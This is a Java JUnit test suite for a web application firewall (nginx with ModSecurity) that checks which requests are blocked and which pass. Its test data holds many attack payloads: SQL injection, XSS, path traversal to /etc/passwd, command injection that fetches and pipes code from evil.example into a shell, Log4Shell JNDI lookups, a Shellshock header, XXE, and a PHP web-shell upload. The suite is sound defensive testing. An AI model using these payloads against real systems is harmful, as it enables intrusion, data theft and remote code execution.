package io.veza.deploy;

import static org.assertj.core.api.Assertions.assertThat;

import io.fabric8.kubernetes.api.model.ConfigMap;
import io.fabric8.kubernetes.api.model.HasMetadata;
import io.fabric8.kubernetes.api.model.networking.v1.Ingress;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What attackers are known to say is stopped; what people, players and encoders say is not. */
class WafTest {

    private static final String JSON = "Content-Type: application/json";
    private static final String TOKEN =
            "eyJhbGciOiJQUzI1NiJ9.eyJzdWIiOiIxIn0." + "aB--_c".repeat(60);
    private static final byte[] NOTHING = {};

    @TempDir static Path home;

    private static Backend backend;
    private static Nginx ingress;

    @BeforeAll
    static void start() throws IOException {
        Assumptions.assumeTrue(
                Nginx.isInstalled(), "nginx, ModSecurity and its rules are not installed");
        backend = new Backend();
        ingress = new Nginx(home, firewall(), backend.port());
    }

    @AfterAll
    static void stop() throws IOException, InterruptedException {
        if (ingress != null) {
            ingress.close();
            backend.close();
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/api/v2/rooms?cursor=1'%20OR%20'1'='1",
                "/api/v2/rooms?limit=1;SELECT%20pg_sleep(5)--",
                "/api/v2/users/x'%20UNION%20SELECT%20password%20FROM%20account--",
                "/api/v2/tracks/1?state=<script>alert(1)</script>",
                "/api/v2/users/%3Csvg%20onload=alert(1)%3E",
                "/media/..%2f..%2f..%2fetc%2fpasswd",
                "/media/../../../etc/passwd",
                "/api/v2/rooms?kind=....//....//etc/passwd",
                "/api/v2/rooms?kind=;cat%20/etc/passwd",
                "/api/v2/rooms?kind=$(curl%20http://evil.example/x|sh)",
                "/?page=http://10.0.0.1/shell.txt?",
                "/.git/config",
                "/.env",
                "/api/v2/status?x=%24%7Bjndi:ldap://evil.example/a%7D",
            })
    void attacksInTheAddressAreStopped(String path) throws IOException {
        assertThat(get(path, "")).isIn(400, 403);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "User-Agent: sqlmap/1.7",
                "User-Agent: () { :;}; /bin/bash -c \"cat /etc/passwd\"",
                "X-Forwarded-Host: ${jndi:ldap://evil.example/a}",
                "Referer: https://a.example/?q=<script>alert(1)</script>",
            })
    void attacksInHeadersAreStopped(String header) throws IOException {
        assertThat(get("/api/v2/status", header)).isEqualTo(403);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"handle\":\"x' OR 1=1 --\",\"email\":\"a@b.example\",\"password\":\"p\"}",
                "{\"handle\":\"ada\",\"email\":\"<img src=x onerror=alert(1)>\"}",
                "{\"handle\":\"ada\",\"email\":\"a;cat /etc/passwd\"}",
                "{\"name\":\"ok\",\"visibility\":\"PUBLIC' UNION SELECT 1,2,3--\"}",
                "{\"text\":\"hi\",\"nonce\":\"';DROP TABLE message;--\"}",
                "{\"text\":",
            })
    void attacksInFieldsThatHoldNoProseAreStopped(String body) throws IOException {
        assertThat(post("/api/v2/rooms/1/messages", JSON, body)).isIn(400, 403);
    }

    @Test
    void otherLanguagesThanOursAreNotSpoken() throws IOException {
        String xml = "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>";

        assertThat(post("/api/v2/auth/login", "Content-Type: application/xml", xml)).isEqualTo(403);
        assertThat(ask("TRACE /", "", NOTHING)).isIn(403, 405);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "SELECT * FROM x;",
                "'; DROP TABLE message; -- UNION SELECT password FROM account",
                "<script>alert(document.cookie)</script> <?php system('id'); ?>",
                "```sh\\ncurl http://a.example/x | bash; cat /etc/passwd; rm -rf /\\n```",
                "${jndi:ldap://x} {{7*7}} ../../../../etc/passwd () { :;}; echo",
                "# Title\\n**bold** [a](https://x.example/?a=1&b=2) > quote",
            })
    void peopleTalkOfCode(String text) throws IOException {
        String body =
                "{\"text\":\"%s\",\"nonce\":\"n-1\",\"poll\":{\"question\":\"%s\",\"options\":[\"%s\",\"b\"]}}"
                        .formatted(text, text, text);

        assertThat(post("/api/v2/rooms/1/messages", JSON, body)).isEqualTo(200);
        assertThat(ask("PATCH /api/v2/rooms/1/messages/2", JSON, bytes(body))).isEqualTo(200);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"login\":\"ada\",\"password\":\"' OR 1=1; DROP TABLE x;-- <script>\"}",
                "{\"email\":\"o'brien+x@example.org\",\"displayName\":\"Ada; O'Neil <3\"}",
                "{\"location\":\"L'Aquila; Italy\",\"links\":[\"https://a.example/?q=<a>&b=;id\"]}",
                "{\"rule\":{\"name\":\"a\",\"patterns\":[\"(?i)union\\\\s+select\",\"<script>\"]}}",
            })
    void whatElsePeopleWriteGoesThrough(String body) throws IOException {
        String path = body.contains("rule") ? "/api/v2/rooms/1/rules" : "/api/v2/users/me";

        assertThat(post(path, JSON + "; charset=utf-8", body)).isEqualTo(200);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/",
                "/openapi",
                "/api/v2/search?query=select%20*%20from%20songs%20where%201=1--&types=TRACK,USER",
                "/api/v2/rooms/1/messages?before=20&limit=50",
                "/people/ada.b-c_d",
                "/rest/ping.view?u=ada&t=26719a1196d2a940705a59634eb18eab&s=c19b2d&v=1.16.1&c=app",
                "/oembed?url=https%3A%2F%2Fveza.example.org%2Ftracks%2F1&format=json",
            })
    void readingIsFree(String path) throws IOException {
        assertThat(get(path, "Authorization: Bearer " + TOKEN)).isEqualTo(200);
        assertThat(get(path, "Cookie: __Host-at=" + TOKEN + "; __Host-rt=Zm9v--")).isEqualTo(200);
        assertThat(get(path, "If-None-Match: W/\"abc\"")).isEqualTo(200);
    }

    @Test
    void everyMethodOfTheApiIsAllowed() throws IOException {
        String react = "/api/v2/rooms/1/messages/2/reactions/%F0%9F%91%8D%F0%9F%8F%BD";

        assertThat(ask("PUT " + react, "", NOTHING)).isEqualTo(200);
        assertThat(ask("DELETE " + react, "", NOTHING)).isEqualTo(200);
        assertThat(ask("HEAD /media/1/a.m4s", "", NOTHING)).isEqualTo(200);
        assertThat(ask("OPTIONS /api/v2/rooms", "Origin: https://friends.example", NOTHING))
                .isEqualTo(200);
    }

    @Test
    void soundIsHeardInParts() throws IOException {
        assertThat(get("/media/1/song.m4s", "Range: bytes=0-1,5-9")).isEqualTo(200);
    }

    @Test
    void filesGoThroughWhole() throws IOException {
        // Given
        byte[] sound = new byte[3_000_000];
        new Random(7).nextBytes(sound);
        long before = backend.bytes();

        // When
        int form = upload("/api/v2/tracks", "multipart/form-data; boundary=b", form(sound));
        int part =
                ask(
                        "PATCH /api/v2/uploads/abc-1",
                        "Content-Type: application/offset+octet-stream\r\nUpload-Offset: 0",
                        sound);

        // Then
        assertThat(form).isEqualTo(200);
        assertThat(part).isEqualTo(200);
        assertThat(backend.bytes() - before).isGreaterThan(2L * sound.length);
    }

    @Test
    void anUploadsAddressIsCheckedAllTheSame() throws IOException {
        assertThat(
                        upload(
                                "/api/v2/tracks?x=<script>alert(1)</script>",
                                "multipart/form-data; boundary=b",
                                form(new byte[10])))
                .isEqualTo(403);
    }

    @Test
    void socketsOpen() throws IOException {
        String wish =
                "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
                        + "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
                        + "Sec-WebSocket-Protocol: veza.v1.json";

        assertThat(get("/ws", wish)).isEqualTo(101);
    }

    /** The annotation's text, and the file it includes where nginx of this test finds it. */
    private static String firewall() throws IOException {
        List<HasMetadata> chart =
                StrictYaml.read(Chart.render(Map.of("ingress.waf.enabled", true)));
        Path rules = home.resolve("waf.conf");
        Files.writeString(rules, the(ConfigMap.class, chart).getData().get("waf.conf"));
        return the(Ingress.class, chart)
                .getMetadata()
                .getAnnotations()
                .get("nginx.ingress.kubernetes.io/modsecurity-snippet")
                .replace("/etc/nginx/veza/waf.conf", rules.toString());
    }

    private static <T extends HasMetadata> T the(Class<T> kind, List<HasMetadata> chart) {
        return chart.stream()
                .filter(kind::isInstance)
                .map(kind::cast)
                .filter(one -> !one.getMetadata().getName().endsWith("-config"))
                .findFirst()
                .orElseThrow();
    }

    private static byte[] form(byte[] file) {
        byte[] head =
                bytes(
                        """
                        --b\r
                        Content-Disposition: form-data; name="title"\r
                        \r
                        1=1 union select <script>\r
                        --b\r
                        Content-Disposition: form-data; name="file"; filename="a'b.php.flac"\r
                        \r
                        """);
        byte[] tail = bytes("<?php system('id'); ?>\r\n--b--\r\n");
        byte[] all = Arrays.copyOf(head, head.length + file.length + tail.length);
        System.arraycopy(file, 0, all, head.length, file.length);
        System.arraycopy(tail, 0, all, head.length + file.length, tail.length);
        return all;
    }

    private static int upload(String path, String type, byte[] body) throws IOException {
        return ask("POST " + path, "Content-Type: " + type, body);
    }

    private static int post(String path, String headers, String body) throws IOException {
        return ask("POST " + path, headers, bytes(body));
    }

    private static int get(String path, String headers) throws IOException {
        return ask("GET " + path, headers, NOTHING);
    }

    private static int ask(String line, String headers, byte[] body) throws IOException {
        return Wire.ask(ingress.port(), line, headers, body);
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
